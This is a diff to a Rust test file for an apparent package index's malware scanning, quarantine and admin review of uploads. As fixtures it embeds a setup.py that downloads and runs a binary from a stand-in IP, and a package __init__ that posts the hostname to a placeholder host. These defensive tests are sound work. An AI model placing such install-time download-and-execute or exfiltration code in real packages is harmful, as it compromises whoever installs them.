@@ -97,13 +97,17 @@ impl TestApp {
 }
 
 fn wheel(name: &str, version: &str, meta_name: &str, meta_version: &str) -> Vec<u8> {
+    wheel_with(name, version, meta_name, meta_version, "")
+}
+
+fn wheel_with(name: &str, version: &str, meta_name: &str, meta_version: &str, init: &str) -> Vec<u8> {
     let mut buf = std::io::Cursor::new(Vec::new());
     {
         let mut z = zip::ZipWriter::new(&mut buf);
         let o = zip::write::SimpleFileOptions::default();
         let di = format!("{name}-{version}.dist-info");
         z.start_file(format!("{name}/__init__.py"), o).unwrap();
-        z.write_all(b"").unwrap();
+        z.write_all(init.as_bytes()).unwrap();
         z.start_file(format!("{di}/METADATA"), o).unwrap();
         write!(z, "Metadata-Version: 2.1\nName: {meta_name}\nVersion: {meta_version}\nRequires-Python: >=3.8\n").unwrap();
         z.start_file(format!("{di}/WHEEL"), o).unwrap();
@@ -283,4 +287,121 @@ async fn health_and_metrics() {
     app.get("/simple/", None).await;
     let m = app.get("/metrics", None).await.text();
     assert!(m.contains("palisade_http_requests_total{route=\"/simple/\",method=\"GET\",status=\"200\"} 1"), "{m}");
+}
+
+fn sdist(name: &str, version: &str, setup_py: &str) -> Vec<u8> {
+    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    for (p, c) in [
+        ("PKG-INFO", format!("Metadata-Version: 2.2\nName: {name}\nVersion: {version}\nSummary: test\n")),
+        ("setup.py", setup_py.to_string()),
+    ] {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(c.len() as u64);
+        h.set_mode(0o644);
+        t.append_data(&mut h, format!("{name}-{version}/{p}"), c.as_bytes()).unwrap();
+    }
+    t.into_inner().unwrap().finish().unwrap()
+}
+
+async fn api(app: &TestApp, method: &str, uri: &str, token: Option<&str>) -> Reply {
+    let mut b = Request::builder().method(method).uri(uri);
+    if let Some(t) = token {
+        b = b.header(header::AUTHORIZATION, format!("Bearer {t}"));
+    }
+    app.send(b.body(Body::empty()).unwrap()).await
+}
+
+#[tokio::test]
+async fn malicious_uploads_are_refused_and_recorded() {
+    let app = TestApp::new().await;
+    let token = app.user("mallory", false).await;
+    let setup = "import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/x', '/tmp/x')\nos.system('/tmp/x')\n";
+    let r = app.upload(Some(&token), "evil_pkg-1.0.tar.gz", &sdist("evil_pkg", "1.0", setup), &[]).await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.text());
+    assert!(r.text().contains("malware scanner") && r.text().contains("py-install-download-exec"), "{}", r.text());
+    assert_eq!(app.get("/simple/evil-pkg/", None).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.blob_count(), 0);
+    assert!(app.tmp_is_empty());
+    let rejected = app.state.db.rejections(10).await.unwrap();
+    assert_eq!(rejected[0].filename, "evil_pkg-1.0.tar.gz");
+    assert_eq!(rejected[0].verdict, "malicious");
+}
+
+#[tokio::test]
+async fn suspicious_uploads_are_quarantined_and_reviewed() {
+    let app = TestApp::new().await;
+    let owner = app.user("olivia", false).await;
+    let other = app.user("oscar", false).await;
+    let admin_token = app.user("root", true).await;
+    let clean = wheel("beacon", "1.0", "beacon", "1.0");
+    assert_eq!(app.upload(Some(&owner), "beacon-1.0-py3-none-any.whl", &clean, &[]).await.status, StatusCode::OK);
+    let init = "import socket, requests\nrequests.post('https://example.invalid/c', data=socket.gethostname())\n";
+    let held = wheel_with("beacon", "2.0", "beacon", "2.0", init);
+    let f = "beacon-2.0-py3-none-any.whl";
+    let r = app.upload(Some(&owner), f, &held, &[]).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+
+    // Not listed, not installable, not downloadable by strangers.
+    let v = app.get("/simple/beacon/", Some(JSON)).await.json();
+    assert_eq!(v["versions"], serde_json::json!(["1.0"]));
+    assert_eq!(v["files"].as_array().unwrap().len(), 1);
+    assert_eq!(v["project-status"]["status"], "active");
+    assert_eq!(app.get(&format!("/files/{f}"), None).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(app.get("/pypi/beacon/2.0/json", None).await.status, StatusCode::NOT_FOUND);
+    let mut req = Request::get(format!("/files/{f}")).header(header::AUTHORIZATION, format!("Bearer {other}")).body(Body::empty()).unwrap();
+    req.extensions_mut();
+    assert_eq!(app.send(req).await.status, StatusCode::NOT_FOUND);
+    // The owner can fetch it and read the report; only an administrator decides.
+    let mut req = Request::get(format!("/files/{f}")).header(header::AUTHORIZATION, format!("Bearer {owner}")).body(Body::empty()).unwrap();
+    req.extensions_mut();
+    assert_eq!(app.send(req).await.body, held);
+    let q = api(&app, "GET", "/api/quarantine", Some(&owner)).await.json();
+    assert_eq!(q["files"][0]["filename"], f);
+    assert_eq!(api(&app, "GET", "/api/quarantine", Some(&other)).await.json()["files"], serde_json::json!([]));
+    let rep = api(&app, "GET", &format!("/api/quarantine/{f}"), Some(&owner)).await.json();
+    assert_eq!(rep["reports"][0]["verdict"], "suspicious");
+    assert!(rep["reports"][0]["report"]["findings"].as_array().unwrap().iter().any(|x| x["rule"] == "py-import-exfil-hostinfo"));
+    assert_eq!(api(&app, "GET", "/api/quarantine", None).await.status, StatusCode::UNAUTHORIZED);
+    assert_eq!(api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&owner)).await.status, StatusCode::FORBIDDEN);
+    let r = api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&admin_token)).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    let v = app.get("/simple/beacon/", Some(JSON)).await.json();
+    assert_eq!(v["files"].as_array().unwrap().len(), 2);
+    let rep = api(&app, "GET", &format!("/api/quarantine/{f}"), Some(&admin_token)).await.json();
+    assert_eq!(rep["reports"][0]["decision"], "released");
+    assert_eq!(rep["reports"][0]["decided_by"], "root");
+    // Releasing twice is a 404: nothing is quarantined any more.
+    assert_eq!(api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&admin_token)).await.status, StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn confirmed_files_are_removed_and_reserved() {
+    let app = TestApp::new().await;
+    let owner = app.user("olivia", false).await;
+    let admin_token = app.user("root", true).await;
+    let init = "import socket, requests\nrequests.post('https://example.invalid/c', data=socket.gethostname())\n";
+    let f = "newbeacon-1.0-py3-none-any.whl";
+    assert_eq!(app.upload(Some(&owner), f, &wheel_with("newbeacon", "1.0", "newbeacon", "1.0", init), &[]).await.status, StatusCode::OK);
+    // The project's only file is held, so the whole project is quarantined (PEP 792).
+    let v = app.get("/simple/newbeacon/", Some(JSON)).await.json();
+    assert_eq!(v["project-status"]["status"], "quarantined");
+    assert_eq!(app.get("/pypi/newbeacon/json", None).await.status, StatusCode::NOT_FOUND);
+    let r = api(&app, "POST", &format!("/api/quarantine/{f}/confirm"), Some(&admin_token)).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    assert_eq!(app.blob_count(), 0);
+    let r = app.upload(Some(&owner), f, &wheel("newbeacon", "1.0", "newbeacon", "1.0"), &[]).await;
+    assert!(r.text().starts_with("File already exists"), "{}", r.text());
+}
+
+#[tokio::test]
+async fn typosquatted_new_projects_are_quarantined() {
+    let app = TestApp::new().await;
+    let token = app.user("t", false).await;
+    let r = app.upload(Some(&token), "reqeusts-1.0-py3-none-any.whl", &wheel("reqeusts", "1.0", "reqeusts", "1.0"), &[]).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    let v = app.get("/simple/reqeusts/", Some(JSON)).await.json();
+    assert_eq!(v["project-status"]["status"], "quarantined");
+    let rep = app.state.db.reports("reqeusts-1.0-py3-none-any.whl").await.unwrap();
+    assert_eq!(rep[0].outcome, "quarantined");
+    assert!(rep[0].report.contains("meta-typosquat"));
 }
